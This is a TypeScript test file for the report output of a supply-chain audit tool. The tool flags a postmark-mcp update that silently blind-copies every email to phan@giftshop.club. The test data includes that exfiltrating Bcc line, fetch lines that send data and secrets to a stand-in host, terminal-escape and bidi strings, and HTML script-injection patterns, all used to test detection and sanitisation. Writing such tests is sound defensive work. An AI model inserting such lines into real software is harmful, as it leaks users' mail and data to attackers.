// Comparisons in every format: golden outputs for people, the first twelve lines, hostile text, floods, the schemas.
import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormatsModule from 'ajv-formats';
import { describe, expect, test } from 'vitest';
import type { FileChange } from '../../src/model/difference.ts';
import type { Report } from '../../src/model/report.ts';
import { html } from '../../src/reports/html.ts';
import { json } from '../../src/reports/json.ts';
import { markdown } from '../../src/reports/markdown.ts';
import { REPORTERS } from '../../src/reports/registry.ts';
import { visible } from '../../src/reports/shared/patch.ts';
import { text } from '../../src/reports/text.ts';
import { colouredText } from '../../src/reports/text/coloured.ts';
import { diffReport, differenceFindings, lockfilesReport, quietReport, sampleDifference } from '../support/sample-difference.ts';
import { ALL_HOSTILE, HOSTILE, rendered, sampleFinding } from '../support/sample-report.ts';

const golden = (name: string): string => new URL(`../../fixtures/reports/${name}`, import.meta.url).pathname;

test.each([
  ['text/diff.txt', rendered(text, diffReport())],
  ['text/diff-quiet-update.txt', rendered(text, quietReport())],
  ['text/diff-verbose.txt', rendered(text, diffReport(), { detail: 'verbose' })],
  ['text/diff-narrow.txt', rendered(text, diffReport(), { width: 40 })],
  ['text/diff-patch.txt', rendered(text, diffReport(), { show: { stat: true, patch: true }, detail: 'quiet' })],
  ['text/diff-lockfiles.txt', rendered(text, lockfilesReport())],
  ['markdown/diff.md', rendered(markdown, diffReport(), { show: { patch: true } })],
  ['markdown/diff-lockfiles.md', rendered(markdown, lockfilesReport())],
])('looks as agreed: %s', async (name, output) => {
  await expect(output).toMatchFileSnapshot(golden(name));
});

/** The lines before the first empty one, as a terminal of 80 columns breaks them. */
function firstScreen(report: Report, width = 80): readonly string[] {
  const [headline = ''] = rendered(text, report, { width }).split('\n\n');
  return headline.split('\n').flatMap((line) => line.match(new RegExp(`.{1,${width}}`, 'gu')) ?? []);
}

function without(report: Report, findings: Report['findings']): Report {
  return { ...report, findings };
}

describe('the headline', () => {
  test('begins with the hidden recipient, its file and its line', () => {
    const [, second] = rendered(text, diffReport()).split('\n');
    expect(second).toBe('CRITICAL  index.js:231  a blind copy of every mail goes to phan@giftshop.club');
  });

  test('says what was and what is, and names the other rules of the place once', () => {
    const screen = firstScreen(diffReport()).join('\n');
    expect(screen).toContain('    was  to: the argument to\n    now  bcc: "phan@giftshop.club", a constant');
    expect(screen).toContain('(also known-indicator-in-code, hidden-mail-recipient)');
    expect(screen.match(/index\.js:231/g)).toHaveLength(1);
  });

  test('holds what is new on one line, without what stands above it anyhow', () => {
    const [first] = differenceFindings().filter(({ ruleId }) => ruleId === 'new-mail-recipient');
    if (first === undefined) throw new Error('no finding');
    const title = 'postmark-mcp 1.0.16 writes a blind copy to phan@giftshop.club, which postmark-mcp@1.0.15 did not';
    expect(rendered(text, without(diffReport(), [{ ...first, title }])).split('\n')[1]).toBe('CRITICAL  index.js:231  writes a blind copy to phan@giftshop.club');
    expect(rendered(text, without(diffReport(), [{ ...first, title, locations: [{ path: 'postmark-mcp@1.0.16' }] }])).split('\n')[1]).toContain('postmark-mcp 1.0.16 writes');
  });

  test('counts what the version before had too, and what weighs little', () => {
    const screen = firstScreen(diffReport()).join('\n');
    expect(screen).toContain('3 findings that 1.0.15 had too');
    expect(screen).toContain('and 2 more of little weight: odd-publish-time, new-environment-access');
    expect(screen).toContain('11 files changed (+60 -49 lines); no rule objects to 1 updated dependency');
  });

  test.each([0, 1, 2, 5, 30, 2_000])('has at most twelve lines: %i more findings', (count) => {
    const more = Array.from({ length: count }, (_, at) => sampleFinding({
      ruleId: at % 2 === 0 ? 'new-network-destination' : 'new-program-run', severity: at % 3 === 0 ? 'high' : 'medium', title: `it asks host-${at}.example for what to do next, which is a rather long title for a change ${'x'.repeat(at % 90)}`,
      locations: [{ path: `postmark-mcp@1.0.16/lib/file-${at}.js`, line: at + 1 }], standing: 'new', change: { was: 'nothing '.repeat(40), now: 'request '.repeat(40) },
    }));
    const screen = firstScreen(without(diffReport(), [...differenceFindings(), ...more]));
    expect(screen.length).toBeLessThanOrEqual(12);
    expect(screen.join('\n')).toContain('3 findings that 1.0.15 had too');
    // Where there are too many for the screen, the rest is counted by rule.
    expect(screen.join('\n')).toMatch(count >= 30 ? /and [\d,]+ more: new-network-destination \(/ : /and \d+ more/);
  });

  test('is one quiet line for an honest update', () => {
    expect(firstScreen(quietReport()).slice(1).join('')).toBe('11 files changed (+60 -49 lines); no rule objects to 1 new environment name, 1  updated dependency');
  });

  test('keeps the recipient on a narrow terminal', () => {
    expect(firstScreen(diffReport(), 40).join('\n')).toContain('phan@giftshop.club');
  });
});

test('the text keeps to its width but for the verdict and what is copied in one piece', () => {
  for (const report of [diffReport(), quietReport(), lockfilesReport()]) {
    const wide = rendered(text, report, { show: { stat: true } }).split('\n').slice(1).filter((line) => line.length > 80 && !line.includes('sha512-'));
    expect(wide).toEqual([]);
  }
});

test('a provenance is never shown without what it does not say', () => {
  const difference = sampleDifference();
  const release = difference.after.release;
  const proved: Report = { ...quietReport(), differences: [{ ...difference, after: { ...difference.after, ...(release === undefined ? {} : { release: { ...release, provenance: { kind: 'verified', predicate: 'https://slsa.dev/provenance/v1', source: { repository: 'https://github.com/owner/name', ref: 'refs/tags/v1.0.16', issuer: 'https://token.actions.githubusercontent.com' } } } }) } }] };
  for (const reporter of [text, markdown, html]) {
    const output = rendered(reporter, proved).replace(/\s+/g, ' ');
    expect(output).toContain('verified (GitHub Actions, github.com/owner/name at v1.0.16)');
    expect(output).toContain('not that they are harmless');
  }
});

describe('--stat', () => {
  const lines = (width: number, files: readonly FileChange[] = sampleDifference().files): readonly string[] => {
    const output = rendered(text, { ...diffReport(), differences: [{ ...sampleDifference(), files }] }, { width, show: { stat: true }, detail: 'quiet' });
    return output.slice(output.indexOf('\n\n') + 2).trimEnd().split('\n');
  };

  test.each([40, 60, 80, 120])('fits %i columns', (width) => {
    const files: readonly FileChange[] = [...sampleDifference().files, { path: `${'deep/'.repeat(40)}file.js`, kind: 'changed', content: 'code', lines: { added: 1_000_000, removed: 1 } }, { path: '名前/ファイル.js', kind: 'added', content: 'code', lines: { added: 3, removed: 0 } }];
    const output = lines(width, files);
    expect(output.filter((line) => line.length > width && !line.includes('Bin'))).toEqual([]);
    // A line taken out of a million is still seen.
    expect(output.find((line) => line.includes('1000001'))).toMatch(/\+-$/);
  });

  test('says the sizes of binary files', () => {
    expect(lines(80)).toContain(' assets/logo.png               | Bin 1,204 -> 1,998 bytes');
  });

  test('one line for each of 4,000 files, and a list of thirty without it', () => {
    const files = Array.from({ length: 4_000 }, (_, at): FileChange => ({ path: `lib/file-${at}.js`, kind: 'changed', content: 'code', lines: { added: 1, removed: 1 } }));
    expect(lines(80, files)).toHaveLength(4_001);
    const listed = rendered(text, { ...diffReport(), differences: [{ ...sampleDifference(), files }] });
    expect(listed.match(/^ {4}M lib\/file/gm)).toHaveLength(30);
    expect(listed).toContain('and 3,970 more files (--verbose lists them, --stat one line each)');
  });
});

describe('--patch', () => {
  const show = { patch: true } as const;

  test('stands after the headline and before the facts', () => {
    const output = rendered(text, diffReport(), { show });
    const order = ['CRITICAL  index.js:231', '+++ b/index.js', 'Examined:', 'New behaviours', 'Coverage'].map((part) => output.indexOf(part));
    expect(order).toEqual(order.toSorted((a, b) => a - b));
    expect(order).not.toContain(-1);
  });

  test('is not printed unasked', () => {
    for (const reporter of [text, markdown, html]) expect(rendered(reporter, diffReport())).not.toContain('b/index.js');
  });

  test('has the colours of git, and none without colour', () => {
    const coloured = rendered(colouredText, diffReport(), { show, color: 'always' });
    expect(coloured).toContain('\u001b[1m+++ b/index.js\u001b[22m\n\u001b[36m@@ -228,6 +228,7 @@ server.tool(\u001b[39m');
    expect(coloured).toContain(`\u001b[32m+      Bcc: 'phan@giftshop.club',\u001b[39m`);
    expect(coloured).toContain('\u001b[31m-\tTextBody: body,\u001b[39m');
    expect(rendered(text, diffReport(), { show })).not.toContain('\u001b');
  });

  test('keeps tabs and spells out all that steers a terminal or reorders text', () => {
    expect(visible('+\tconst a = 1;')).toBe('+\tconst a = 1;');
    expect(visible(`-\t${HOSTILE.terminal}`)).toBe('-\tclear\\u{1b}[2J\\u{9b}31mred\\u{7}');
    expect(visible(`+ ${HOSTILE.bidi}`)).toBe('+ abc\\u{202e}dcb\\u{2066}x\\u{2069}');
  });

  test('shows what code puts into an address, and no secret in it', () => {
    // oxlint-disable-next-line no-template-curly-in-string
    expect(visible('fetch(`https://x.example/?key=s3cr3t&d=${data}`);')).toBe('fetch(`https://x.example/?key=...&d=${data}`);');
    expect(visible("get('https://user:hunter2@x.example/a?b=c&access_token=s3cr3t&d=' + e)")).toBe("get('https://x.example/a?b=c&access_token=...&d=' + e)");
    // Two lines that differ must not look the same.
    expect(visible('badge.svg?branch=master')).toBe('badge.svg?branch=master');
  });

  // Where each position is tried anew, the runner's time runs out.
  test('a line of a megabyte without a blank is shown too', () => {
    const patch = `@@ -1 +1 @@\n+https://x.example/?${'a'.repeat(1_000_000)}${'&b'.repeat(200_000)}\n`;
    const report: Report = { ...diffReport(), differences: [{ ...sampleDifference(), files: [{ path: 'x.js', kind: 'added', content: 'code', patch }] }] };
    expect(rendered(json, report)).toContain('https://x.example/?aaaa');
    expect(rendered(text, report, { show })).toContain('https://x.example/?aaaa');
  });

  test('a password that a cut goes through is not shown in part', () => {
    expect(visible(`+${'x'.repeat(20)} https://user:hunter2@x.example/`, 38)).toBe(`+${'x'.repeat(20)} https://… 15 more characters`);
    const report: Report = { ...diffReport(), differences: [{ ...sampleDifference(), notes: [`${'x'.repeat(1_985)} https://user:hunter2@x.example/`] }] };
    for (const reporter of [text, html, markdown]) expect(rendered(reporter, report)).not.toContain('hunt');
  });

  test('takes a line that looks like a header for what it is, and leaves out returns that every line has', () => {
    const patch = ['--- a/x.sql', '+++ b/x.sql', '@@ -1,2 +1,2 @@', '--- a comment\r', '+++ b\r', ' same\r', '\\ No newline at end of file', ''].join('\n');
    const report: Report = { ...diffReport(), differences: [{ ...sampleDifference(), files: [{ path: 'x.sql', kind: 'changed', content: 'text', patch }] }] };
    const output = rendered(colouredText, report, { show, color: 'always', detail: 'quiet' });
    expect(output).toContain('\u001b[31m--- a comment\u001b[39m\n\u001b[32m+++ b\u001b[39m\n same\n');
    const mixed = { ...report, differences: [{ ...sampleDifference(), files: [{ path: 'x.sql', kind: 'changed', content: 'text', patch: patch.replace(' same\r', ' same') } as const] }] };
    expect(rendered(text, mixed, { show, detail: 'quiet' })).toContain('--- a comment\\u{d}\n');
  });

  test('a line of a megabyte is cut, and the cut is told', () => {
    const shown = visible(`+${'x'.repeat(1_000_000)}`);
    expect(shown.length).toBeLessThan(20_100);
    expect(shown).toContain('980,001 more characters');
  });
});

describe('the comment on a pull request', () => {
  const lines = (report: Report): readonly string[] => rendered(markdown, report).trimEnd().split('\n');

  test('has the verdict and the marker in its first line, and is short', () => {
    const all = lines(lockfilesReport());
    expect(all[0]).toBe('## mcp-audit: FINDINGS in 2 of 40 changed packages <!-- mcp-audit:lockfiles -->');
    expect(all.length).toBeLessThanOrEqual(60);
  });

  test('shows the packages that matter, worst first, and all others in one sentence', () => {
    const all = lines(lockfilesReport());
    const rows = all.filter((line) => line.startsWith('| `'));
    expect(rows.map((row) => /^\| `([^`]+)`/.exec(row)?.[1])).toEqual(['postmark-mcp', 'color-name']);
    expect(rows[0]).toContain('| 1\\.0.15 → 1.0.16 | a blind copy of every mail goes to phan@<!-- -->giftshop.club at `index.js:231`<br>was: to: the argument to<br>now: bcc:');
    expect(all).toContain('40 packages changed: 37 updated, 1 added, 1 removed, 1 from another source; the code of 36 was compared, and no rule objects to 34 of them.');
    expect(all).toContain('**Not compared:** `private` (the registry wants other credentials).');
    // Outside the folded parts, a quiet package is not named.
    expect(all.filter((line) => line.includes('quiet-07'))).toHaveLength(1);
  });

  test('stays short and below what GitHub takes, whatever the packages are called', () => {
    const name = (at: number): string => `package-${at}-${'|`<b>@x '.repeat(60)}`;
    const packages = Array.from({ length: 2_000 }, (_, at) => ({ name: name(at), before: ['1.0.0'], after: ['2.0.0'], kind: 'updated', direct: true, notCompared: name(at) }) as const);
    const findings = packages.map(({ name: of }, at) => sampleFinding({ ruleId: 'new-program-run', title: `it runs ${of}`, package: { name: of, version: '2.0.0' }, locations: [{ path: `${of}@2.0.0/${'|'.repeat(300)}.js`, line: at + 1 }], standing: 'new', change: { was: name(at), now: name(at) }, remediation: [name(at)] }));
    const all = lines({ ...lockfilesReport(), findings, lockfileChanges: { before: name(1), after: name(2), packages, compared: 2_000, quiet: 0 } });
    expect(all.join('\n').length).toBeLessThan(65_536);
    expect(all.length).toBeLessThanOrEqual(60);
    expect(all.filter((line) => line.startsWith('| `')).map((line) => line.split(/(?<!\\)\|/).length)).toEqual(Array.from({ length: 10 }, () => 6));
  });

  test('an update that nobody needs to read is a few lines', () => {
    const report = lockfilesReport();
    const changes = report.lockfileChanges;
    const quiet = lines({ ...report, findings: [], verdict: { ...report.verdict, status: 'clean', exitCode: 0 }, ...(changes === undefined ? {} : { lockfileChanges: { ...changes, compared: 36, quiet: 36, packages: changes.packages.filter(({ notCompared }) => notCompared === undefined) } }) });
    expect(quiet[0]).toContain('## mcp-audit: CLEAN');
    expect(quiet.join('\n')).toContain('no rule objects to any of them');
    expect(quiet.length).toBeLessThan(22);
  });
});

test('a row of a Markdown table stays one, and a patch cannot leave its block', () => {
  const rows = rendered(markdown, diffReport(` ${ALL_HOSTILE}`)).split('\n').filter((line) => line.startsWith('| new ') || line.startsWith('| critical '));
  expect(rows.length).toBeGreaterThan(2);
  expect(rows.filter((line) => ![5, 6].includes(line.split(/(?<!\\)\|/).length))).toEqual([]);
  const patch = '--- a/README.md\n+++ b/README.md\n@@ -1 +1,3 @@\n+```\n+````\n+</details>\n';
  const output = rendered(markdown, { ...diffReport(), differences: [{ ...sampleDifference(), files: [{ path: 'README.md', kind: 'changed', content: 'text', patch }] }] }, { show: { patch: true } });
  expect(output).toContain(`\n\`\`\`\`\`diff\n${patch}\`\`\`\`\`\n`);
});

// What must not stand in an output of one format, however hostile the text was.
const HARM: Readonly<Record<string, RegExp>> = {
  text: /##(?:vso)?\[|^\s*::/m,
  json: /##(?:vso)?\[/,
  html: /<script|<img|onerror=alert\(1\)>/,
};

describe.each(REPORTERS.map(({ id, load }) => ({ id, load })))('$id', ({ id, load }) => {
  test.each([['two copies', diffReport], ['two lockfiles', lockfilesReport]] as const)('tells of %s', async (_, report) => {
    const output = rendered(await load(), report());
    expect(output).toMatch(/phan@(?:<!-- -->)?giftshop\.club/);
    expect(output).toContain('1.0.15');
    expect(output).not.toContain('undefined');
  });

  test.each([['two copies', diffReport], ['two lockfiles', lockfilesReport]] as const)('hostile text in %s does nothing', async (_, report) => {
    const output = rendered(await load(), report(` ${ALL_HOSTILE}`), { detail: 'verbose', show: { stat: true, patch: true } });
    // oxlint-disable-next-line no-control-regex
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u);
    expect(output).not.toMatch(/hunter2|s3cr3t/);
    expect(output).not.toMatch(HARM[id] ?? /(?!)/);
  });

  test('10,000 findings and 4,000 files are no trouble', async () => {
    const findings = Array.from({ length: 10_000 }, (_, at) => sampleFinding({ ruleId: 'new-network-destination', severity: 'medium', title: `it asks host-${at}.example`, locations: [{ path: `postmark-mcp@1.0.16/lib/file-${at}.js`, line: at + 1 }], standing: 'new', fingerprint: `v1:${String(at).padStart(32, '0')}` }));
    const files = Array.from({ length: 4_000 }, (_, at): FileChange => ({ path: `lib/file-${at}.js`, kind: 'changed', content: 'code', lines: { added: 1, removed: 1 }, patch: `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-${'a'.repeat(500)}\n+b\n` }));
    const started = process.cpuUsage();
    const output = rendered(await load(), { ...without(diffReport(), findings), differences: [{ ...sampleDifference(), files }] }, { show: { patch: true, stat: true } });
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(5_000);
    expect(output.length).toBeGreaterThan(1_000);
    expect(output.length).toBeLessThan(id === 'markdown' ? 65_536 : 100_000_000);
  });
});

describe('JSON', () => {
  const ajv = new Ajv2020({ strict: false });
  (addFormatsModule as unknown as typeof addFormatsModule.default)(ajv);
  const validate = ajv.compile(JSON.parse(readFileSync(new URL('../../schemas/report.schema.json', import.meta.url), 'utf8')) as object);

  test.each([['two copies', diffReport()], ['hostile', diffReport(ALL_HOSTILE)], ['quiet', quietReport()], ['two lockfiles', lockfilesReport()], ['hostile lockfiles', lockfilesReport(ALL_HOSTILE)]] as const)('follows the schema: %s', (_, report) => {
    const document: unknown = JSON.parse(rendered(json, report));
    validate(document);
    expect(validate.errors).toBeNull();
    expect(document).toMatchObject({ command: 'diff', differences: [{ before: { version: '1.0.15' }, after: { version: '1.0.16' }, files: { length: 11 } }] });
  });

  test('has the patches where the report has them, and no secret in them', () => {
    const document = JSON.parse(rendered(json, diffReport(ALL_HOSTILE))) as Report;
    expect(document.differences?.[0]?.files.find(({ path }) => path === 'index.js')?.patch ?? '').toContain("+      Bcc: 'phan@giftshop.club',");
  });
});
